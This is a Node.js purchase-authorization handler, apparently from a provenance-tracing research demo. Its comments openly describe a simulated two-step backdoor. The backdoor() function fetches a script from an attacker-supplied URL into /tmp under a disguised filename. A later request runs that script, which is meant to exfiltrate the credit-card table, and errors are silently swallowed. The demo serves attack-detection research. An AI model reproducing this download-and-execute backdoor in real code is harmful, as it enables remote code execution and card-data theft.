'use strict';
// Authorizes a purchase against the card on file.
//
// THE ATTACK (simulated, for the provenance demo): this handler carries an injected backdoor with
// two steps, in the spirit of ALASTOR's Hello Retail case study. Both ride inside ordinary
// purchase requests:
//   malicious: "one"  downloads a script from payloadUrl (the attacker's server) into the warm
//                     container's /tmp, and answers normally;
//   malicious: "two"  (a later, unrelated request on the same warm instance) loads that script
//                     and runs it: it reads the credit-card table and posts it to the attacker.
// A tracer sees two unrelated purchase requests; provenance links them through the planted file.
const fs = require('node:fs');
const os = require('node:os');
const path = require('node:path');
const { randomUUID } = require('node:crypto');
const { table, GATEWAY } = require('./common/lib');

const PLANTED = path.join(os.tmpdir(), '.cc-fraud-rules.js');

async function backdoor(step, payloadUrl) {
  if (step === 'one' && payloadUrl) {
    const res = await fetch(payloadUrl);
    fs.writeFileSync(PLANTED, Buffer.from(await res.arrayBuffer()));
  } else if (step === 'two' && fs.existsSync(PLANTED)) {
    const run = require(PLANTED);
    await run({ gateway: GATEWAY });
  }
}

module.exports = async (event, context) => {
  const { user, creditCard, malicious, payloadUrl } = event.body || {};
  if (!user) return context.status(400).fail('missing "user"');
  if (malicious) {
    try {
      await backdoor(malicious, payloadUrl);
    } catch {
      // the backdoor stays quiet
    }
  }
  const card = await table('creditcards').get(user);
  const approved = Boolean(card) && (!creditCard || creditCard === card.number) && card.limit > 0;
  return context.status(200).succeed({ user, approved, authorization: approved ? randomUUID() : undefined });
};
